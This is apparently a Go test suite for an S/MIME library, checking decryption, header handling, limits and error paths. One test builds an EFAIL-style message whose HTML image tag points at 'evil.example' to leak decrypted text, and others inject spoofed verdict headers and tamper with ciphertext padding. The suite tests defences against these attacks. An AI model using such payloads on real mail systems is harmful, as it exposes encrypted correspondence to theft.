package smime_test

import (
	"bytes"
	"context"
	"crypto"
	"crypto/rsa"
	"crypto/x509"
	"errors"
	"io"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/siegel-mail/siegel/smime"
	"github.com/siegel-mail/siegel/smime/cms"
)

// The delivered message has the outer fields as they came, and of the decrypted header what describes
// content and nothing else.
func TestDeliveredMessage(t *testing.T) {
	w := theWorld()
	head := "Received: by x\r\n\twith y\r\nfrom: alice@firma.example\r\nSUBJECT:  odd \r\n case\r\nX-Dup: 1\r\nX-Dup: 2\r\n"
	inner := "X-Siegel-Verdict: valid\r\nx-DE-mail-authoritative: yes\r\nFrom: boss@partner.example\r\nSubject: other\r\ncontent-type: text/plain\r\nContent-Description:\r\n folded\r\n\r\nhello\r\n"
	o := open(t, head+"Content-Disposition: attachment\r\n"+enveloped(t, w, inner, ""), w.options())
	expect(t, o, smime.Unsigned, "enveloped:open")
	want := head + "MIME-Version: 1.0\r\ncontent-type: text/plain\r\nContent-Description:\r\n folded\r\n\r\nhello\r\n"
	if got := delivered(t, o); got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
	h := o.Header()
	h.Del("subject")
	if got := delivered(t, o); got != want {
		t.Error("changing a copy of the header changed the message")
	}
	head = strings.Replace(outside, "MIME-Version: 1.0", "Mime-Version: 1.0 (x)", 1)
	o = open(t, strings.ReplaceAll(head, "\r\n", "\n")+enveloped(t, w, "\r\nno header\r\n", cms.AES128GCM), w.options())
	if got := delivered(t, o); got != head+"\r\nno header\r\n" {
		t.Errorf("got %q", got)
	}
}

// Foreign signed bytes within an envelope arrive as they were, however odd they are.
func TestSignedBytesPass(t *testing.T) {
	w := theWorld()
	odd := "Content-Type:   multipart/mixed;boundary=o\r\nX-Trailing: blank \r\n\r\npre \r\n--o\r\n\r\nFrom \xfc\r\n--o\r\nX: y\r\n\r\n"
	for name, inner := range map[string]string{
		"clear":               signed(t, w.alice, "s", odd),
		"no closing boundary": strings.TrimSuffix(signed(t, w.alice, "s", odd), "\r\n--s--\r\n"),
		"opaque":              opaque(t, w.alice, odd),
	} {
		o := open(t, outside+enveloped(t, w, inner, ""), w.options())
		if got := delivered(t, o); got != outside+inner || o.Verdict != smime.Valid {
			t.Errorf("%s: %s, delivered %q, want %q", name, o.Verdict, got, outside+inner)
		}
		o = open(t, outside+inner, w.options())
		if o.Verdict != smime.Valid || o.Changed() {
			t.Errorf("%s, not encrypted: %s", name, o.Verdict)
		}
	}
}

// What comes out of an envelope can be sent: SMTP has no bare LF or CR, and no NUL.
func TestDecryptedContentIsMadeFitForSMTP(t *testing.T) {
	w := theWorld()
	cases := map[string]string{
		"Content-Type: text/plain\n\nhello\nyou\n":                       "Content-Type: text/plain\r\n\r\nhello\r\nyou\r\n",
		"Content-Type: text/plain\r\n\r\na\rb\r\n":                       "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\na=0Db\r\n",
		"Content-Transfer-Encoding: binary\r\n\r\n\x00\n":                "Content-Transfer-Encoding: base64\r\n\r\nAAo=\r\n",
		"Content-Type: text/plain\rX-Siegel-Verdict: valid\r\n\r\nhello": "Content-Type: text/plain X-Siegel-Verdict: valid\r\n\r\nhello",
	}
	for inner, want := range cases {
		o := open(t, outside+enveloped(t, w, inner, ""), w.options())
		if got := delivered(t, o); got != outside+want {
			t.Errorf("%q: delivered %q, want %q", inner, got, outside+want)
		}
	}
	lf := strings.ReplaceAll(signed(t, w.alice, "s", hello), "\r\n", "\n")
	o := open(t, outside+enveloped(t, w, lf, ""), w.options())
	expect(t, o, smime.Valid, "enveloped:open signed:clear:valid")
	if got := delivered(t, o); got != outside+crlf(lf) {
		t.Errorf("delivered %q", got)
	}
}

// Whatever keeps an envelope closed, the report is the same and the message passes as it came.
func TestClosedEnvelopesLookAlike(t *testing.T) {
	w := theWorld()
	// Where a bit of the end is changed so that the end is always wrong: the highest of the padding's length, by way of the block
	// before (a changed last block would pad well once in 256), and one of the authentication tag.
	for a, end := range map[cms.Algorithm]int{cms.AES256CBC: 17, cms.AES256GCM: 1} {
		cut := func(from string, change func([]byte)) string {
			_, b64, _ := strings.Cut(from, "\r\n\r\n")
			der := decode64(b64)
			change(der)
			head, _, _ := strings.Cut(from, "\r\n\r\n")
			return head + "\r\n\r\n" + lines(der)
		}
		good := outside + enveloped(t, w, hello+strings.Repeat("text\r\n", 100), a)
		other := w.options()
		other.Keys = keys(w.mallory)
		pretender := w.options()
		pretender.Keys = keys(person{cert: w.bob.cert, key: w.mallory.key})
		none := w.options()
		none.Keys = nil
		bare := w.options()
		bare.Scratch = nil
		short := w.options()
		short.Limits.Size = 20
		deep := outside + enveloped(t, w, mixed(strings.Repeat("\r\nx\r\n--mixed\r\n", 2000)), a)
		var want *smime.Report
		for name, c := range map[string]struct {
			message string
			o       smime.OpenOptions
		}{
			"no keys":          {good, none},
			"no scratch":       {good, bare},
			"another's key":    {good, other},
			"the wrong key":    {good, pretender},
			"too large":        {good, short},
			"too many parts":   {deep, w.options()},
			"end changed":      {cut(good, func(b []byte) { clearBytes(b[len(b)-40 : len(b)-end+1]) }), w.options()},
			"key changed":      {cut(good, func(b []byte) { b[200] ^= 1 }), w.options()},
			"last bit changed": {cut(good, func(b []byte) { b[len(b)-end] ^= 0x80 }), w.options()},
		} {
			o := open(t, c.message, c.o)
			if o.Changed() || delivered(t, o) != c.message {
				t.Errorf("%s, %s: the message was changed", a, name)
			}
			r := o.Report
			if want == nil {
				want = &r
			}
			for i := range r.Layers {
				r.Layers[i].Recipients = nil // they are what the message says
			}
			if !reflect.DeepEqual(*want, r) {
				t.Errorf("%s, %s: %+v, another has %+v", a, name, r, *want)
			}
		}
	}
}

func clearBytes(b []byte) {
	for i := range b {
		b[i] ^= 0x55
	}
}

// An envelope beside plain parts is reported and stays closed: opening it would mix both (EFAIL).
func TestErrantEnvelopeStaysClosed(t *testing.T) {
	w := theWorld()
	message := outside + mixed("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/", enveloped(t, w, hello, ""), "Content-Type: text/html\r\n\r\n\">")
	o := open(t, message, w.options())
	expect(t, o, smime.Unsigned, "enveloped:errant")
	if delivered(t, o) != message || len(o.Layers[0].Recipients) != 1 {
		t.Errorf("%+v", o.Layers)
	}
}

func TestLimits(t *testing.T) {
	w := theWorld()
	nested := hello
	for range 11 {
		nested = opaque(t, w.alice, nested)
	}
	o := open(t, outside+nested, w.options())
	if o.Verdict != smime.Broken || len(o.Layers) != 10 || len(o.Reasons) == 0 {
		t.Errorf("11 layers: %s, %d, %q", o.Verdict, len(o.Layers), o.Reasons)
	}
	options := w.options()
	options.Limits.Layers, options.Limits.Signers = 11, 11
	if o := open(t, outside+nested, options); o.Verdict != smime.Valid || len(o.Layers) != 11 {
		t.Errorf("11 of 11 layers: %s, %d", o.Verdict, len(o.Layers))
	}
	sig := part([]byte("x"))
	many := outside + mixed(strings.Split(strings.Repeat(clear("s", hello, sig)+"|", 30), "|")...)
	if o := open(t, many, w.options()); o.Verdict != smime.Broken || len(o.Layers) != 10 {
		t.Errorf("30 errant layers: %s, %d", o.Verdict, len(o.Layers))
	}
	wide := outside + signed(t, w.alice, "s", mixed(strings.Repeat("\r\nx\r\n--mixed\r\n", 2000)))
	expect(t, open(t, wide, w.options()), smime.Broken, "signed:clear:broken")
	expect(t, open(t, outside+mixed(strings.Repeat("\r\nx\r\n--mixed\r\n", 2000)), w.options()), smime.Unsigned, "")
	options = w.options()
	options.Limits.Size = 10
	expect(t, open(t, outside+opaque(t, w.alice, hello), options), smime.Broken, "signed:opaque:broken")
	options = w.options()
	options.Limits.CMS.Signers, options.Limits.CMS.HeaderBytes = 1, 500
	expect(t, open(t, outside+signed(t, w.alice, "s", hello), options), smime.Broken, "signed:clear:broken")
	long := outside + clear("s", hello, part(bytes.Repeat([]byte("x"), 5<<20)))
	expect(t, open(t, long, w.options()), smime.Broken, "signed:clear:broken")
	options = w.options()
	options.Limits.Header = 400
	if _, err := smime.Open(t.Context(), text("X: "+strings.Repeat("y", 500)+"\r\n\r\n"), options); !errors.Is(err, smime.ErrMessage) {
		t.Errorf("a header over the limit: %v", err)
	}
	inner := "X: " + strings.Repeat("y", 500) + "\r\n\r\n"
	expect(t, open(t, outside+enveloped(t, w, inner, ""), options), smime.Unsigned, "enveloped")
}

// Judging a certificate takes time, which strangers must not have without end.
func TestSignersAreBounded(t *testing.T) {
	w := theWorld()
	nested := hello
	for range 4 {
		nested = opaque(t, w.alice, nested)
	}
	options, judged := w.options(), 0
	options.Judge = func(ctx context.Context, leaf *x509.Certificate, more []*x509.Certificate, at time.Time) (smime.Verdict, []string) {
		judged++
		return w.judge(ctx, leaf, more, at)
	}
	options.Limits.Signers = 3
	expect(t, open(t, outside+nested, options), smime.Untrusted, "signed:opaque:valid signed:opaque:valid signed:opaque:valid signed:opaque:untrusted")
	if judged != 3 {
		t.Errorf("%d certificates were judged", judged)
	}
}

var errDisk = errors.New("disk")

// flaky is a message whose nth opening, or reading after some bytes of it, fails.
type flaky struct {
	text
	opens *int
	at    int64
}

func (f flaky) Open() (io.ReadCloser, error) {
	if *f.opens--; *f.opens == 0 {
		if f.at == 0 {
			return nil, errDisk
		}
		r, _ := f.text.Open()
		return io.NopCloser(io.MultiReader(io.LimitReader(r, f.at), broken{})), nil
	}
	return f.text.Open()
}

type broken struct{}

func (broken) Read([]byte) (int, error) { return 0, errDisk }

// Trouble with storage is an error, never a verdict; nothing is left in the scratch then.
func TestOpenErrors(t *testing.T) {
	w := theWorld()
	for name, message := range map[string]string{
		"clear":     outside + signed(t, w.alice, "s", hello),
		"opaque":    outside + opaque(t, w.alice, strings.Repeat(hello, 1000)),
		"enveloped": outside + enveloped(t, w, signed(t, w.alice, "s", strings.Repeat(hello, 1000)), ""),
		"gcm":       outside + enveloped(t, w, strings.Repeat(hello, 1000), cms.AES256GCM),
		"mixed":     outside + mixed(opaque(t, w.alice, hello), signed(t, w.alice, "s", hello)),
		"lf":        strings.ReplaceAll(outside+signed(t, w.alice, "s", hello), "\r\n", "\n"),
	} {
		for _, at := range []int64{0, 1, 300, int64(len(message)) - 100} {
			for n, failed := 1, true; failed; n++ {
				left := n
				var buffers []*memory
				o := w.options()
				o.Scratch = func() smime.Buffer {
					m := new(memory)
					buffers = append(buffers, m)
					return m
				}
				opened, err := smime.Open(t.Context(), flaky{text(message), &left, at}, o)
				if failed = left <= 0; !failed || err == nil && at > 1 {
					if err != nil {
						t.Errorf("%s: %v", name, err)
					}
					opened.Close()
				} else if !errors.Is(err, errDisk) {
					t.Errorf("%s, opening %d fails at %d: %v", name, n, at, err)
				}
				for _, b := range buffers {
					if !b.closed {
						t.Errorf("%s: scratch is left open", name)
					}
				}
			}
		}
	}
}

// full is scratch that takes some bytes only.
type full struct {
	memory
	room int
}

func (f *full) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, errDisk
	}
	return f.memory.Write(p)
}

func TestScratchErrors(t *testing.T) {
	w := theWorld()
	for name, message := range map[string]string{"opaque": opaque(t, w.alice, hello), "enveloped": enveloped(t, w, hello, ""), "converted": enveloped(t, w, strings.ReplaceAll(hello, "\r", ""), "")} {
		o := w.options()
		n := 0
		o.Scratch = func() smime.Buffer {
			n++
			return &full{room: (n - 1) * 30}
		}
		if _, err := smime.Open(t.Context(), text(outside+message), o); !errors.Is(err, errDisk) {
			t.Errorf("%s: %v", name, err)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := smime.Open(ctx, text(outside+hello), w.options()); !errors.Is(err, context.Canceled) {
		t.Errorf("after the context was done: %v", err)
	}
}

// away is a key that cannot be reached at the moment.
type away struct{ crypto.PublicKey }

func (a away) Public() crypto.PublicKey { return a.PublicKey }
func (a away) Decrypt(io.Reader, []byte, crypto.DecrypterOpts) ([]byte, error) {
	return nil, awayError{}
}

type awayError struct{}

func (awayError) Error() string   { return "the card is unplugged" }
func (awayError) Temporary() bool { return true }

func TestKeyThatIsAway(t *testing.T) {
	w := theWorld()
	o := w.options()
	o.Keys = func([]cms.RecipientID) []cms.Key {
		return []cms.Key{{Certificate: w.bob.cert, Decrypter: away{w.bob.key.(*rsa.PrivateKey).Public()}}}
	}
	_, err := smime.Open(t.Context(), text(outside+enveloped(t, w, hello, "")), o)
	if !errors.As(err, &awayError{}) {
		t.Errorf("err = %v, want the key's", err)
	}
}

func TestClose(t *testing.T) {
	w := theWorld()
	var buffers []*memory
	o := w.options()
	o.Scratch = func() smime.Buffer {
		m := new(memory)
		buffers = append(buffers, m)
		return m
	}
	opened := open(t, outside+enveloped(t, w, opaque(t, w.alice, hello), ""), o)
	opened.Close()
	if err := opened.Close(); err != nil || len(buffers) != 2 || !buffers[0].closed || !buffers[1].closed {
		t.Errorf("after Close: %v, %d buffers", err, len(buffers))
	}
	if _, err := opened.WriteTo(io.Discard); err == nil {
		t.Error("a message can be read after Close")
	}
}

func TestFormOf(t *testing.T) {
	w := theWorld()
	for name, c := range map[string]struct {
		message string
		want    smime.Form
	}{
		"plain":     {hello, smime.Form{}},
		"clear":     {signed(t, w.alice, "s", hello), smime.Form{Signed: true}},
		"opaque":    {opaque(t, w.alice, hello), smime.Form{Signed: true}},
		"enveloped": {enveloped(t, w, hello, ""), smime.Form{Encrypted: true}},
		"gcm":       {enveloped(t, w, hello, cms.AES256GCM), smime.Form{Encrypted: true}},
		"two types": {strings.Replace(enveloped(t, w, hello, ""), "\r\n\r\n", "\r\nContent-Type: text/plain\r\n\r\n", 1), smime.Form{}},
		"a label":   {"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nhello\r\n", smime.Form{}},
		"a name":    {"Content-Type: application/octet-stream; name=x.p7m\r\n\r\nhello\r\n", smime.Form{}},
	} {
		if got, err := smime.FormOf(text(outside + c.message)); err != nil || got != c.want {
			t.Errorf("%s: %+v, %v", name, got, err)
		}
	}
	for n, at := range []int64{0, 1, 400} {
		one := 1
		if _, err := smime.FormOf(flaky{text(outside + enveloped(t, w, hello, "")), &one, at}); !errors.Is(err, errDisk) || errors.Is(err, smime.ErrMessage) {
			t.Errorf("%d: %v", n, err)
		}
	}
	if _, err := smime.FormOf(text("X: " + strings.Repeat("y", 300<<10))); !errors.Is(err, smime.ErrMessage) {
		t.Errorf("a header over the limit: %v", err)
	}
}
